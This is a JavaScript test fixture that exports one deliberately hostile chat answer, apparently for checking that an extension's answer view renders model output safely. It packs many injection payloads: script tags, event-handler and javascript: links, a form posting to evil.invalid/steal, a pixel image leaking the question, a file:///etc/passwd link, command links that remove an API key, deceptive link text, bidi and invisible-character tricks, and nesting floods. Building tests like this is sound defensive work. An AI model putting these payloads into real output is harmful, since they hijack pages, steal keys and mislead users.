// One canned answer that tries everything an answer can try against the page that shows it. All addresses are reserved names.

/** Made of escapes, so that this file itself stays readable: right-to-left override, zero-width space, tag characters. */
const RLO = '\u202e';
const ZERO_WIDTH = '\u200b';
const TAGS = [...'hidden'].map((letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join('');
const CONTROLS = '\u0007\u001b[31m\u0000\u0008';

export const HOSTILE_ANSWER = `# Hostile <script>window.pwned = 1</script>

<img src=x onerror="window.pwned = 2"><svg onload="window.pwned = 3"></svg>
<iframe src="https://evil.invalid/frame"></iframe>
<style>* { display: none !important }</style>
<form action="https://evil.invalid/steal"><input name="key" autofocus onfocus="window.pwned = 4"></form>
<a href="javascript:window.pwned=5">harmless</a> <base href="https://evil.invalid/">
<meta http-equiv="refresh" content="0;url=https://evil.invalid/">

[script link](javascript:window.pwned=6) · [encoded](java&#x73;cript:window.pwned=7) · [tabbed](<java\tscript:window.pwned=8>)
[command link](command:workbench.action.terminal.new) · [command with arguments](command:siliconflow.removeApiKey?%5B%5D)
[editor link](vscode://evil.invalid/run) · [file link](file:///etc/passwd) · [data link](data:text/html,<script>window.pwned=9</script>)
[https://www.siliconflow.cn](https://evil.invalid/looks-like-it) · <https://user:pass@evil.invalid/>

![remote image](https://evil.invalid/pixel.png?q=what-you-asked) ![data](data:image/svg+xml,<svg onload=alert(1)>)

Bidi: access level = "user${RLO} // admin only${ZERO_WIDTH}" and invisible tags:${TAGS}. Controls:${CONTROLS}.

\`\`\`js" onmouseover="window.pwned = 10
const isAdmin = false; /*${RLO} } if (isAdmin) { */
</code></pre><script>window.pwned = 11</script>
\`\`\`

\`\`\`html
<script>window.pwned = 12</script>
\`\`\`

| a | b |
|---|---|
| <b onclick="window.pwned = 13">x</b> | \`</script><script>window.pwned = 14</script>\` |

$\\href{javascript:window.pwned=15}{x}$ $$\\htmlData{x=1}{\\rule{1000em}{1000em}}$$

${'> '.repeat(60)}deep

${'['.repeat(200)}brackets${']'.repeat(200)}

The end of the hostile answer.
`;
